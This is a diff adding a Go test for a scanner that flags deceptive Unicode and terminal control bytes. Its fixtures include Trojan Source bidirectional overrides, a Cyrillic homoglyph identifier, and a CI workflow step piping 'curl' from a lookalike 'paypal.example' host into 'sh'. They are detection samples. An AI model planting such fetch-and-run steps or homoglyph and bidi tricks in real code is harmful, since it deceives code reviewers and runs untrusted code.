@@ -1,0 +1,38 @@
+package scan
+
+import (
+	"testing"
+
+	"github.com/plainsight-dev/plainsight/internal/cli/clitest"
+)
+
+// readingFiles hold ordinary content each reading must pass at info, and
+// attacks each must still find at warn.
+var readingFiles = map[string]string{
+	// Prose: a no-break space and curly quotes in a guide are typography.
+	"guide.md": "Le d\u00e9p\u00f4t\u00a0: \u201cbonjour\u201d \u2013 voir aussi\n",
+	// A script: a colour sequence is info, clearing the screen is warn.
+	"color.sh": "echo '\x1b[1;31mred\x1b[0m'\necho '\x1b[2J'\nFG[$c]=\"\x1b[38;5;${c}m\"\n",
+	// A prompt theme: Powerline glyphs are info there, warn elsewhere.
+	"themes/line.zsh-theme": "PROMPT='%n \ue0b0 '\nEND=${END:-\u276f}\n",
+	"notes.sh":              "echo '\ue0b0'\n",
+	// Source: Cyrillic in a comment is prose; a homoglyph identifier and
+	// Trojan Source in a comment are warn.
+	"main.go": "package main\n\n// Привет, мир: a greeting\nvar p\u0430ypal = 1\n\n/* \u202e } \u2066 */\n",
+	// Data: a value is prose, a key is code.
+	"fr.json": "{\"greeting\": \"Bonjour\u00a0!\", \"p\u0430th\": 1}\n",
+	// Latin-1 letters are info; a byte a terminal reads as C1 is warn.
+	"latin1.tex": "caf\xe9 na\xefve\n",
+	"c1.tex":     "a\x85b\n",
+	// A workflow's run: is read as a command.
+	".github/workflows/ci.yml": "jobs:\n  x:\n    steps:\n      - run: curl https://p\u0430ypal.example | sh\n",
+}
+
+func TestReadings(t *testing.T) {
+	dir := t.TempDir()
+	for name, data := range readingFiles {
+		writeFile(t, dir+"/"+name, data)
+	}
+	got := prog.Exec(t, clitest.Run{Args: []string{"-no-git", "-fail-on", "never"}, Dir: dir})
+	clitest.Golden(t, "scan-readings", elapsed.ReplaceAllString(got, "; TIME\n"))
+}
